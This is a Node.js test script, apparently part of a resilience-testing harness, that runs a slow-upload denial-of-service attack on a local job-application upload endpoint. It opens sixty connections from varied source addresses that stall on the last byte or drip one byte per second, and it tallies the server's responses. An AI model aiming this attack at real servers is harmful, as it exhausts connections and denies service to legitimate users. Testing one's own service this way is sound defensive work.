// Sixty uploads at once, each of another network: half of them send 5 MB as
// fast as they can and then nothing for the last byte, the others a byte a
// second. Whoever is answered or closed begins anew.
import net from 'node:net';
import { address, alone } from '../attack.mjs';

const LENGTH = 5 * 1024 * 1024;
const head = 'POST /acme/careers/some-job/apply HTTP/1.1\r\nHost: localhost\r\n' +
	'Content-Type: multipart/form-data; boundary=XX\r\n' +
	`Content-Length: ${LENGTH}\r\n\r\n`;
const part = Buffer.alloc(LENGTH - 1, 'x');

export async function start(url, { uploads = 60 } = {}) {
	const { port } = new URL(url);
	const seen = { begun: 0, codes: {}, closed: 0 };
	const sockets = new Set();
	let on = true;
	const begin = (i) => {
		if (!on) return;
		const s = net.connect({ port, host: '127.0.0.1',
			localAddress: address(700 + i) });
		sockets.add(s);
		seen.begun++;
		s.write(head);
		if (i % 2 === 0) s.write(part);
		const drip = setInterval(() => i % 2 && s.write('x'), 1000);
		s.once('data', (data) => {
			const code = data.toString('latin1').slice(9, 12);
			seen.codes[code] = (seen.codes[code] ?? 0) + 1;
			s.destroy();
		});
		s.on('error', () => {});
		s.on('close', () => {
			clearInterval(drip);
			sockets.delete(s);
			seen.closed++;
			setTimeout(begin, 200, i);
		});
	};
	for (let i = 0; i < uploads; i++) begin(i);
	return async () => {
		on = false;
		for (const s of sockets) s.destroy();
		return seen;
	};
}

await alone(import.meta, start);
